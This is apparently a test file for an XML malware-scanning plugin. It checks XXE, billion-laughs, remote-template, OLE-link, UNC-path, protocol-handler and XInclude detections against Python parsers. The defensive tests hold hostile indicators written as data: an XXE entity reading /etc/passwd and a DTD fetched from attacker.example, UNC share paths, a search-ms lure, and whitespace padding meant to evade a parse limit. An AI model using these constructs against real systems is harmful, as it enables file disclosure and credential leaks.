/**
 * The xml plugin against Python's expat and ElementTree on files built by real tools: entity
 * declarations, root, namespaces, element counts and external relationship targets, value by
 * value. XXE and billion-laughs files are read without expanding or fetching anything.
 */
import { deepEqual, equal, ok } from "node:assert/strict";
import xml from "../../plugins/xml.ts";
import { instantiate, makePayload, makeRequest, sh } from "../helpers.ts";
import { OLE_UNC, TEMPLATE_URL, textFiles, UNC_HYPERLINK } from "../fixtures/text_files.ts";

// deno-lint-ignore no-explicit-any
type Any = any;

async function scan(content: Uint8Array | string, options: Record<string, unknown> = {}) {
  const { instance, call } = await instantiate(xml, options);
  const p = makePayload(content);
  return (await instance.scan!(p, makeRequest(p), call)) as Any;
}

/** What expat (no external entity fetching, no parameter entity parsing) reports. */
const EXPAT = `
import json, sys, xml.parsers.expat
data = open(sys.argv[1], 'rb').read()
p = xml.parsers.expat.ParserCreate(namespace_separator=' ')
p.SetParamEntityParsing(xml.parsers.expat.XML_PARAM_ENTITY_PARSING_NEVER)
out = {'entities': [], 'elements': 0, 'root': None, 'namespaces': [], 'doctype': None}
def ent(name, is_param, value, base, system_id, public_id, notation):
    out['entities'].append({'name': name, 'parameter': bool(is_param), 'value': value, 'system_id': system_id})
def start(name, attrs):
    out['elements'] += 1
    if out['root'] is None: out['root'] = name
def ns(prefix, uri): out['namespaces'].append({'prefix': prefix or '', 'uri': uri})
def doctype(name, sysid, pubid, has_internal): out['doctype'] = {'name': name, 'system_id': sysid, 'public_id': pubid, 'internal': bool(has_internal)}
p.EntityDeclHandler = ent
p.StartElementHandler = start
p.StartNamespaceDeclHandler = ns
p.StartDoctypeDeclHandler = doctype
p.DefaultHandler = lambda data: None  # references to undeclared or external entities are skipped, not fetched
p.ExternalEntityRefHandler = lambda *a: 1
try:
    p.Parse(data, True)
except xml.parsers.expat.ExpatError as e:
    out['error'] = str(e)
print(json.dumps(out))
`;

Deno.test("xml: entity declarations, root and namespaces of an XXE file equal expat's", async () => {
  const files = await textFiles();
  const want = JSON.parse(await sh("python3", ["-c", EXPAT, files["xxe.xml"]]));
  const r = (await scan(await Deno.readFile(files["xxe.xml"]))).results;
  deepEqual(
    r.doctype.entities.map((e: Any) => ({
      name: e.name,
      parameter: e.parameter,
      value: e.value ?? null,
      system_id: e.system_id ?? null,
    })),
    want.entities,
  );
  deepEqual([
    r.doctype.name,
    r.doctype.system_id,
    r.doctype.public_id,
    r.doctype.has_internal_subset,
  ], [
    want.doctype.name,
    want.doctype.system_id,
    want.doctype.public_id,
    want.doctype.internal,
  ]);
  // expat names elements "uri local" with namespace_separator=' '.
  equal(`${r.root.namespace} ${r.root.name}`, want.root);
  equal(r.elements, want.elements);
  deepEqual(r.namespaces, want.namespaces);
  deepEqual(r.doctype.parameter_references, ["remote"]);
  equal(r.well_formed, true, JSON.stringify(r.parse_errors));
  const ids = r.findings.map((f: Any) => f.id);
  deepEqual(ids, ["external_entity"]);
  equal(r.findings[0].severity, "high");
  equal(
    r.findings[0].detail,
    "xxe -> file:///etc/passwd; %remote -> http://attacker.example/evil.dtd",
  );
});

Deno.test("xml: a billion-laughs file is reported, not expanded, and costs little", async () => {
  const files = await textFiles();
  const bytes = await Deno.readFile(files["bomb.xml"]);
  const out = await scan(bytes);
  const r = out.results;
  equal(r.doctype.entity_count, 10);
  equal(r.doctype.max_expansion, 3 * 10 ** 9, "lol9 = 10^9 times 'lol'");
  deepEqual(r.findings.map((f: Any) => f.id), ["entity_expansion"]);
  // The plugin never holds an expansion: its whole result is a few KiB.
  ok(JSON.stringify(out).length < 10_000, `result size ${JSON.stringify(out).length}`);
  // expat, which does expand, refuses the same file (amplification limit) or expands it: either
  // way it declares the same ten entities.
  const want = JSON.parse(await sh("python3", ["-c", EXPAT, files["bomb.xml"]]));
  deepEqual(r.doctype.entities.map((e: Any) => e.name), want.entities.map((e: Any) => e.name));
  // A recursive entity is named, not followed.
  const loop = await scan(`<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;x">]><a>&a;</a>`);
  deepEqual(loop.results.doctype.recursive_entities.sort(), ["a", "b"]);
  ok(loop.results.findings.some((f: Any) => f.id === "entity_expansion"));
});

/** External relationships as ElementTree reads them. */
const RELS = `
import json, sys, xml.etree.ElementTree as ET
root = ET.parse(sys.argv[1]).getroot()
ns = '{http://schemas.openxmlformats.org/package/2006/relationships}'
print(json.dumps([{'id': r.get('Id'), 'type': r.get('Type').rsplit('/', 1)[1], 'target': r.get('Target')}
  for r in root.iter(ns + 'Relationship') if r.get('TargetMode') == 'External']))
`;

Deno.test("xml: external relationship targets equal ElementTree's; template, OLE link and UNC findings", async () => {
  const files = await textFiles();
  const want = JSON.parse(await sh("python3", ["-c", RELS, files["external.xml"]]));
  equal(want.length, 3);
  const r = (await scan(await Deno.readFile(files["external.xml"]))).results;
  deepEqual(
    r.external_targets.map((t: Any) => ({ id: t.id, type: t.relationship_type, target: t.target })),
    want,
  );
  deepEqual(r.external_targets.map((t: Any) => t.kind), ["url", "remote_file_url", "unc"]);
  deepEqual(r.findings.map((f: Any) => [f.id, f.severity]), [
    ["remote_template", "high"],
    ["external_ole_object", "high"],
    ["unc_path", "high"],
  ]);
  ok(r.findings[0].detail.includes(TEMPLATE_URL));
  ok(r.findings[2].detail.includes(OLE_UNC) && r.findings[2].detail.includes(UNC_HYPERLINK));
  deepEqual(r.findings[0].mitre, ["T1221"]);
  deepEqual(r.findings[2].mitre, ["T1187"]);
  equal(r.root.name, "Relationships");
});

Deno.test("xml: UNC paths in a Word field code, file URLs in attributes, XInclude, stylesheets, scripts", async () => {
  const doc = `<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="http://198.51.100.3/s.xsl"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"
  xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:svg="http://www.w3.org/2000/svg">
<w:body><w:p><w:r><w:instrText> INCLUDEPICTURE "\\\\\\\\198.51.100.9\\\\share\\\\a.png" \\d </w:instrText></w:r></w:p>
<w:p><w:hyperlink w:tgt="search-ms:query=invoice&amp;crumb=location:\\\\198.51.100.9\\s"/></w:p>
<xi:include href="file:///etc/hostname"/><svg:script>alert(1)</svg:script></w:body></w:document>`;
  const r = (await scan(doc)).results;
  const t = r.external_targets.map((x: Any) => [x.source, x.target, x.kind]);
  deepEqual(t, [
    ["stylesheet", "http://198.51.100.3/s.xsl", "url"],
    ["text", "\\\\198.51.100.9\\share\\a.png", "unc"],
    ["attribute", "search-ms:query=invoice&crumb=location:\\\\198.51.100.9\\s", "protocol_handler"],
    ["xinclude", "file:///etc/hostname", "local_file_url"],
  ]);
  deepEqual(r.findings.map((f: Any) => f.id).sort(), [
    "local_file",
    "protocol_handler",
    "script_element",
    "unc_path",
    "xinclude",
  ]);
  equal(r.scripts, 1);
  deepEqual(r.processing_instructions, [{
    target: "xml-stylesheet",
    data: 'type="text/xsl" href="http://198.51.100.3/s.xsl"',
  }]);
});

Deno.test("xml: UTF-16 and declared encodings are decoded; truncated and corrupted files give errors and what was read", async () => {
  const text = `<?xml version="1.0" encoding="UTF-16"?><r a="é">ü</r>`;
  const le = new Uint8Array(2 + text.length * 2);
  le.set([0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) {
    new DataView(le.buffer).setUint16(2 + i * 2, text.charCodeAt(i), true);
  }
  const r16 = (await scan(le)).results;
  equal(r16.encoding, "utf-16le");
  equal(r16.root.name, "r");
  equal(r16.well_formed, true);
  const latin = new Uint8Array([
    ...new TextEncoder().encode(`<?xml version="1.0" encoding="ISO-8859-1"?><r>`),
    0xe9,
    ...new TextEncoder().encode("</r>"),
  ]);
  equal((await scan(latin)).results.encoding, "windows-1252");

  const files = await textFiles();
  const full = await Deno.readFile(files["external.xml"]);
  for (const cut of [10, 60, 200, full.length - 20]) {
    const out = await scan(full.subarray(0, cut));
    equal(out.results.well_formed, false, `cut at ${cut}`);
    ok(out.results.parse_errors.length > 0, `cut at ${cut}: a named error`);
    ok(typeof out.results.parse_errors[0].line === "number");
  }
  // Bytes flipped all over: never a throw, always a result.
  const bad = full.slice();
  for (let i = 7; i < bad.length; i += 13) bad[i] ^= 0x5a;
  const out = await scan(bad);
  equal(out.results.well_formed, false);
  // A cap on bytes: parsed in part, said in errors.
  const capped = await scan(full, { max_bytes: 100 });
  equal(capped.results.truncated, true);
  ok(capped.errors[0].includes("only the first 100"));
});

Deno.test("xml: past max_parse_chars, relationships and UNC paths are still found by a linear scan", async () => {
  const files = await textFiles();
  const rels = await Deno.readTextFile(files["external.xml"]);
  // Padding an evader could use to push the relationships past the reader.
  const padded = rels.replace("<Relationship ", `<!--${" ".repeat(300_000)}--><Relationship `)
    .replace(
      "</Relationships>",
      `<Note>INCLUDEPICTURE "\\\\\\\\198.51.100.99\\\\x\\\\y.png"</Note></Relationships>`,
    );
  const out = await scan(padded, { max_parse_chars: 1000 });
  const r = out.results;
  equal(r.well_formed, null);
  ok(r.parsed_characters <= 1000 && r.parsed_characters > 100, String(r.parsed_characters));
  deepEqual(r.parse_errors, []);
  deepEqual(r.external_targets.map((t: Any) => [t.source, t.id ?? null, t.target]), [
    ["relationship", "rId1", TEMPLATE_URL],
    ["relationship", "rId2", OLE_UNC],
    ["relationship", "rId3", UNC_HYPERLINK],
    ["text", null, "\\\\198.51.100.99\\x\\y.png"],
  ]);
  deepEqual(r.findings.map((f: Any) => f.id), [
    "remote_template",
    "external_ole_object",
    "unc_path",
  ]);
  // Read whole, the same file gives the same targets from the reader itself.
  const whole = (await scan(padded, { max_parse_chars: 10_000_000 })).results;
  equal(whole.well_formed, true);
  deepEqual(
    whole.external_targets.map((t: Any) => t.target),
    r.external_targets.map((t: Any) => t.target),
  );
});
